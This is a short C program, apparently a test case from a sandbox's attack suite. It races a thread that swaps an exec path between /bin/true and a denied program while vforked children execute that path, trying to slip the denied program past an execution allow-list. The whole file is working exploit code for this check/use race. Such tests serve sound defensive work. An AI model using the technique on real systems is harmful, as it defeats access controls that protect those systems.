/* One thread exchanges the path in memory between an allowed program and the denied one while others execute it. */
#include "attack.h"
#include <pthread.h>
static char path[4096];
static volatile int stop;
static char good[] = "/bin/true", *bad;
static void *swap(void *unused) {
    while (!stop) { strcpy(path, bad); strcpy(path, good); }
    return unused;
}
int main(int c, char **v) {
    pthread_t thread;
    int won = 0;
    bad = v[1];
    strcpy(path, good);
    pthread_create(&thread, NULL, swap, NULL);
    for (int i = 0; i < 300 && !won; i++) {
        /* vfork shares the memory, so that the thread goes on exchanging while the child executes. */
        pid_t child = vfork();
        if (child == 0) { execl(path, "x", NULL); _exit(1); }
        int status;
        waitpid(child, &status, 0);
        won = WIFEXITED(status) && WEXITSTATUS(status) == WON;
    }
    stop = 1;
    finish(won);
}
